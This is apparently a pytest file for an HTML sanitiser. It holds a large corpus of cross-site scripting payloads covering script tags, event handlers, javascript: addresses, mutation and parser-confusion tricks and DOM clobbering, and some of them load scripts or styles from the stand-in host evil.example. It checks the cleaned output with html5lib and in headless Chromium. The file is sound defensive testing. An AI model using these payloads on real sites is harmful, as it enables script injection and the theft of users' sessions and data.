"""Clean HTML cannot act: attacks on sanitisers, each written here in the manner of the known corpora
(OWASP's filter evasion, mutation attacks on DOMPurify, html5sec), read by our tree, by html5lib's, and
shown in Chromium, where each would call `alert` if it still could.
"""

from __future__ import annotations

import os
import re

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.markup.render import render
from pipeline.markup.soup import make_soup

CHROMIUM = "/usr/bin/chromium"

ATTACKS = {
    "scripts": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script/x>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1)//<</script>",
        '<img """><script>alert(1)</script>">',
        "<scr\x00ipt>alert(1)</scr\x00ipt>",
        "<script\x0c>alert(1)</script\x0c>",
        "<script>alert(1)",
        "</script><script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<script type=module>alert(1)</script>",
        "<svg><script>alert&#40;1)</script></svg>",
        "<svg><script href=data:,alert(1) /></svg>",
        "<math><script>alert(1)</script></math>",
        "<template><script>alert(1)</script></template>",
        "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
        "<noscript><script>alert(1)</script></noscript>",
    ],
    "handlers": [
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)//",
        "<img/src=x/onerror=alert(1)>",
        "<img src='x'onerror='alert(1)'>",
        "<img src=x oNeRrOr=alert(1)>",
        "<image src=x onerror=alert(1)>",
        "<img srcset=x,y onerror=alert(1)>",
        "<img src=`x` onerror=alert(1)>",
        "<img src=x\x00onerror=alert(1)>",
        "<img src=x onload=alert(1) onerror=alert(1) title='\"><img src=x onerror=alert(1)>'>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)//",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=onmouseover to=alert(1)>",
        "<body onload=alert(1)>",
        "<html onmouseover=alert(1)><p>x",
        "<p onmouseover=alert(1)>x</p>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)></audio>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<a onclick=alert(1) href=https://delta.example/>x</a>",
        "<a/onmouseover=alert(1)>x",
        "<b onbeforescriptexecute=alert(1) onpointerenter=alert(1)>x</b>",
        "<div style=animation-name:x onanimationstart=alert(1)>x</div>",
        "<p popover id=a onbeforetoggle=alert(1)>x</p><button popovertarget=a>x</button>",
        "</p/onclick=alert(1)>x",
    ],
    "addresses": [
        "<a href=javascript:alert(1)>x</a>",
        "<a href=JaVaScRiPt:alert(1)>x</a>",
        '<a href=" javascript:alert(1)">x</a>',
        '<a href="\x01javascript:alert(1)">x</a>',
        '<a href="java\tscript:alert(1)">x</a>',
        '<a href="java&#10;script:alert(1)">x</a>',
        '<a href="java&NewLine;script&colon;alert(1)">x</a>',
        "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>x</a>",
        "<a href=&#x6Aavascript:alert(1)>x</a>",
        "<a href=&#0000106avascript:alert(1)>x</a>",
        "<a href=vbscript:alert(1)>x</a>",
        "<a href=data:text/html,<script>alert(1)</script>>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
        "<a href='blob:https://delta.example/1'>x</a>",
        "<a href='file:///etc/passwd'>x</a>",
        "<a href='view-source:javascript:alert(1)'>x</a>",
        "<a href='feed:javascript:alert(1)'>x</a>",
        "<a href='//evil.example/x' target=_blank ping=//evil.example/p>x</a>",
        "<img src=javascript:alert(1)>",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1) data-src='javascript:alert(1)'>",
        "<blockquote cite=javascript:alert(1)>x</blockquote>",
        "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'></svg>",
        "<math href=javascript:alert(1)>x</math>",
        "<form action=javascript:alert(1)><input type=submit></form>",
        "<button formaction=javascript:alert(1) form=f>x</button>",
        "<map name=m><area href=javascript:alert(1)></map>",
        "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x",
        "<base href=javascript:/><a href=%0aalert(1)>x</a>",
        "<base href=//evil.example/><a href=/x>x</a>",
    ],
    "frames and loads": [
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
        "<iframe srcdoc='&lt;img src=x onerror=parent.alert(1)&gt;'>",
        "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
        "<object data=javascript:alert(1)></object>",
        "<object data='data:text/html,<script>alert(1)</script>' type=text/html></object>",
        "<embed src=javascript:alert(1)>",
        "<applet code=x></applet>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=preload as=script href=//evil.example/x.js onload=alert(1)>",
        "<link rel=import href=//evil.example/x>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "<video poster=//evil.example/x src=//evil.example/y autoplay></video>",
        "<portal src=//evil.example/></portal>",
    ],
    "styles": [
        "<style>@import '//evil.example/x.css';</style>",
        "<style>*{background:url(//evil.example/x)}</style>",
        "<p style=background:url(//evil.example/x)>x</p>",
        "<p style='width:expression(alert(1))'>x</p>",
        "<p style='-moz-binding:url(//evil.example/x)'>x</p>",
        "<p style='behavior:url(x.htc)'>x</p>",
        "<svg><style>*{fill:url(//evil.example/x)}</style></svg>",
    ],
    "what mutates when it is parsed again": [
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
        "<svg><p><style><a title='</style><img src=x onerror=alert(1)>'></p></svg>",
        (
            "<math><mtext><table><mglyph><style><!--</style>"
            "<img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>"
        ),
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        (
            "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style>"
            "</annotation-xml></math>"
        ),
        "<svg><foreignobject><style><img src=x onerror=alert(1)></style></foreignobject></svg>",
        "<svg><desc><noscript><img src=x onerror=alert(1)></noscript></desc></svg>",
        "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></title></svg>",
        "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
        "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
        "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>",
        "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
        "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
        "<title><p title='</title><img src=x onerror=alert(1)>'>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<pre>\n<img src=x onerror=alert(1)></pre>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)>-->",
        "<!---><img src=x onerror=alert(1)>-->",
        "<? x='><img src=x onerror=alert(1)>'>",
        "<!x '><img src=x onerror=alert(1)>'>",
        "</ x '><img src=x onerror=alert(1)>'>",
        (
            "<select><template><style><!--</style><a rel='--></style></template></select>"
            "<img src=x onerror=alert(1)>'>"
        ),
        "<select><p><img src=x onerror=alert(1)></p><option><svg onload=alert(1)></select>",
        "<table><td><svg><desc><td><style><a id='</style><img src=x onerror=alert(1)>'>",
        "<a><table><a><img src=x onerror=alert(1)></table></a>",
        "<option><style></option></select><img src=x onerror=alert(1)></style>",
        "<b><i></b><p title='</i><img src=x onerror=alert(1)>'></i></p>",
        "<q cite='\"><img src=x onerror=alert(1)>'>x</q>",
        "<img alt='&quot;><img src=x onerror=alert(1)>' src=/a.jpg>",
        "<a title='\u0338' href=/1>\u0338 onclick=alert(1)</a>",
        "<p lang='\"><svg onload=alert(1)>'>x</p>",
        "<td colspan='1\" onclick=\"alert(1)'>x</td>",
        "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    ],
    "names that hide others": [
        "<form id=document name=body><input name=attributes><img name=querySelector></form>",
        "<img name=getElementById id=alert src=/a.jpg>",
        "<a id=location href=javascript:alert(1)>x</a><a id=location name=x href=/2>y</a>",
    ],
}
EVERY_ATTACK = [attack for attacks in ATTACKS.values() for attack in attacks]
AROUND = "<p>Low {} tide</p>"

# What docs and readers may count on, said here once more: the tags and attributes of clean HTML.
TAGS = frozenset(
    "a abbr address article aside b bdi bdo blockquote br caption cite code col colgroup dd del details dfn "
    "div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark ol p pre q "
    "rp rt ruby s samp section small span strong sub summary sup table tbody td tfoot th thead time tr tt u "
    "ul var wbr".split()
)
ATTRIBUTES = frozenset(
    "href src cite title alt width height lang dir rel colspan rowspan scope start reversed value span "
    "datetime".split()
)


def clean(markup: str) -> str:
    return render(make_soup(markup), "https://delta.example/posts/1").html or ""


def forbidden(html: str) -> list[str]:
    """What of the HTML is not on the list, as the standard's parser reads it."""
    found = []
    # As a fragment: what a page that shows the HTML would put into an element of its own.
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str):
            found.append("a comment")
        elif element.tag not in TAGS | {"DOCUMENT_FRAGMENT"}:
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            if name not in ATTRIBUTES:
                found.append(f"{name}=")
            if name in ("href", "src", "cite") and not re.match(r"(https?|mailto|tel):", value):
                found.append(value)
    return found


@pytest.mark.parametrize("kind", ATTACKS)
def test_of_an_attack_nothing_is_left_that_is_not_on_the_list(kind):
    for attack in ATTACKS[kind]:
        for markup in (attack, AROUND.format(attack)):
            assert (markup, forbidden(clean(markup))) == (markup, [])


def test_cleaning_is_done_once_and_for_all():
    for attack in EVERY_ATTACK:
        html = clean(AROUND.format(attack))
        assert clean(html) == html


def test_the_text_around_an_attack_stays():
    kept = [attack for attack in EVERY_ATTACK if clean(AROUND.format(attack)).startswith("<p>Low")]
    # The others take in what follows, as an element that a browser does not show: an unclosed <script>.
    assert len(kept) == len(EVERY_ATTACK)


@given(st.lists(st.sampled_from(EVERY_ATTACK) | st.text(max_size=6), max_size=4), st.data())
@settings(deadline=None, max_examples=300)
def test_attacks_cut_and_joined_are_no_better(parts, data):
    joined = "".join(parts)
    start, end = sorted(data.draw(st.integers(0, len(joined))) for _ in range(2))
    assert forbidden(clean(joined[start:end] + joined)) == []


@pytest.fixture(scope="module")
def browser():
    playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    if not os.access(CHROMIUM, os.X_OK):
        pytest.skip(f"there is no Chromium at {CHROMIUM}")
    with playwright.sync_playwright() as api:
        started = api.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        yield started
        started.close()


ACT = """async () => {
  for (const element of document.querySelectorAll('*')) {
    for (const type of ['mouseover', 'pointerenter', 'focus', 'toggle', 'error', 'load', 'submit'])
      element.dispatchEvent(new Event(type, {bubbles: true}));
    if (element.tagName == 'A') {
      element.addEventListener('click', event => {
        if (element.protocol != 'javascript:') event.preventDefault();
      });
      element.click();
    }
  }
  // An address that is code runs in a task of its own.
  await new Promise(done => setTimeout(done, 5));
}"""


def shown(browser, fragments):
    """What happens when Chromium shows them: calls of `alert`, and requests that are for no picture."""
    page = browser.new_page()
    happened = []
    page.on("dialog", lambda dialog: (happened.append("alert"), dialog.dismiss()))

    def answer(route):
        if route.request.resource_type != "image":
            happened.append(f"{route.request.resource_type} {route.request.url}")
        route.abort()

    page.route("**/*", answer)
    acted = []
    for fragment in fragments:
        happened.clear()
        page.set_content(f"<!doctype html><meta charset=utf-8><body>{fragment}", wait_until="load")
        page.evaluate(ACT)
        if happened:
            acted.append(fragment)
    page.close()
    return acted


def test_attacks_do_act_where_they_are_not_cleaned(browser):
    """Else the next test would show nothing."""
    attacks = [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "<a href=javascript:alert(1)>x</a>",
    ]
    assert shown(browser, attacks) == attacks


def test_in_chromium_no_attack_acts_once_it_is_cleaned(browser):
    assert shown(browser, [clean(AROUND.format(attack)) for attack in EVERY_ATTACK]) == []
    assert shown(browser, [clean(attack) for attack in EVERY_ATTACK]) == []
